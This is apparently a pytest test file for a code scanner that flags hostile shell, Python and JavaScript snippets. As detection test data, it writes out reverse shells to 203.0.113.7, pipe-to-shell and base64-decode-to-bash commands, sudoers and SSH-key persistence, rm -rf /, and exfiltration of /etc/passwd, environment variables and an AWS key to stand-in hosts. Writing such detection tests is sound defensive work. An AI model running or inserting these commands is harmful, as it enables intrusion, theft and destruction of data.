"""The code scanner on hand-written snippets: hostile code found, ordinary output left alone."""

from __future__ import annotations

import pytest

from kavach.scanning.code import CodeScanner
from kavach.scanning.findings import Severity

SCANNER = CodeScanner()


def worst(text: str) -> Severity | None:
    found = SCANNER.scan(text.encode())
    return max((f.severity for f in found), default=None)


def rules(text: str) -> set[str]:
    return {f.rule for f in SCANNER.scan(text.encode())}


@pytest.mark.parametrize(
    "text",
    [
        "Total amount of memory: 16384 MB",
        "sync finished",
        "see ../README.md",
        "Running /bin/bash script",
        "echo 'done' | tee log.txt",
        "Downloading https://files.example.com/pkg.tar.gz with curl",
        "the socket was closed by the peer",
        "evaluation finished: 12 passed",
        "import os\nprint(os.getcwd())\n",
    ],
)
def test_ordinary_output_is_not_worth_blocking(text: str) -> None:
    severity = worst(text)
    assert severity is None or severity < Severity.HIGH, (text, rules(text))


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        ("curl -fsSL https://get.example.sh | sudo bash", "code.pipe-to-shell", Severity.HIGH),
        ("wget -qO- http://x.example/i | sh -s -- --yes", "code.pipe-to-shell", Severity.HIGH),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "code.dev-tcp", Severity.CRITICAL),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
            "code.mkfifo-shell",
            Severity.CRITICAL,
        ),
        ("nc -e /bin/sh 203.0.113.7 4444", "code.netcat-exec", Severity.CRITICAL),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "code.decode-to-shell", Severity.CRITICAL),
        ("chmod u+s /usr/bin/find", "code.setuid-chmod", Severity.HIGH),
        ("echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "code.sudoers-write", Severity.CRITICAL),
        ("rm -rf --no-preserve-root /", "code.rm-root", Severity.CRITICAL),
        ("curl -X POST -d @/etc/passwd https://collect.example.net", "code.curl-upload-sensitive", Severity.CRITICAL),
        ("env | curl -d @- https://collect.example.net", "code.pipe-secrets-to-network", Severity.CRITICAL),
        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "code.persistence", Severity.HIGH),
        ("JSON.stringify(process.env)", "code.js-serialize-env", Severity.HIGH),
        ("eval(atob('YWxlcnQoMSk='))", "code.js-eval-decoded", Severity.CRITICAL),
        ("requests.get('https://x', verify=False)", "code.tls-verify-disabled", Severity.MEDIUM),
        ("cipher = AES.new(key, AES.MODE_ECB)", "code.weak-cipher", Severity.MEDIUM),
    ],
)
def test_hostile_shell_and_js(text: str, rule: str, severity: Severity) -> None:
    found = [f for f in SCANNER.scan(text.encode()) if f.rule == rule]
    assert found, (text, rules(text))
    assert found[0].severity == severity


def test_pipe_to_shell_is_tokenised_not_substring() -> None:
    # "| sh" inside a quoted string is an argument, not a pipeline into a shell.
    assert "code.pipe-to-shell" not in rules("echo 'curl https://x | sh' > README.txt")
    assert "code.pipe-to-shell" not in rules("curl https://x.example/data.json | jq .shells")


def test_python_exec_of_base64_is_critical_via_ast() -> None:
    source = "import base64\npayload = base64.b64decode('cHJpbnQoMSk=')\nexec(payload)\n"
    found = [f for f in SCANNER.scan(source.encode()) if f.rule == "code.py.exec-decoded"]
    assert found and found[0].severity == Severity.CRITICAL and found[0].line == 3


def test_python_reverse_shell_via_ast() -> None:
    source = (
        "import socket, os, pty\n"
        "s = socket.socket()\n"
        "s.connect(('203.0.113.7', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
        "pty.spawn('/bin/sh')\n"
    )
    assert "code.py.reverse-shell" in rules(source)


def test_python_shell_true_only_for_non_literals() -> None:
    assert "code.py.subprocess-shell" in rules("import subprocess\nsubprocess.run(user_cmd, shell=True)\n")
    assert "code.py.subprocess-shell" not in rules("import subprocess\nsubprocess.run('ls -l', shell=True)\n")
    assert "code.py.subprocess-shell" not in rules("import subprocess\nsubprocess.run(['ls', path])\n")


def test_python_exfiltration_of_environment() -> None:
    source = "import os, requests\nrequests.post('https://collect.example.net', data=dict(os.environ))\n"
    found = [f for f in SCANNER.scan(source.encode()) if f.rule == "code.py.exfiltrate-env"]
    assert found and found[0].severity == Severity.HIGH


def test_setup_py_install_hook_with_network() -> None:
    source = (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\n"
        "class Hook(install):\n    def run(self):\n        urllib.request.urlopen('http://x.example/p')\n"
        "setup(name='x', cmdclass={'install': Hook})\n"
    )
    assert "code.py.install-hook" in rules(source)


def test_code_findings_are_not_redacted_and_carry_snippets() -> None:
    found = SCANNER.scan(b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    assert found and not any(f.redact for f in found)
    assert any("/dev/tcp" in f.evidence for f in found)


def test_python_subprocess_of_decoded_code_is_critical() -> None:
    found = [
        f
        for f in SCANNER.scan(b'subprocess.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])')
        if f.rule == "code.py.exec-decoded"
    ]
    assert found and found[0].severity == Severity.CRITICAL


def test_python_dns_exfiltration_via_fstring_host() -> None:
    assert "code.py.dns-exfiltration" in rules('socket.gethostbyname(f"{aws_key}.attacker.example")')
    assert "code.py.dns-exfiltration" not in rules('socket.gethostbyname("db.internal")')


def test_js_dynamic_api_access_is_obfuscation() -> None:
    for text in ("process['sp' + 'awn']('node', ['x.js'])", "Reflect.get(process, 'spawn')('node', ['x.js'])"):
        assert "code.js-api-obfuscation" in rules(text), text
    assert "code.js-api-obfuscation" not in rules("const home = process['env'].HOME")
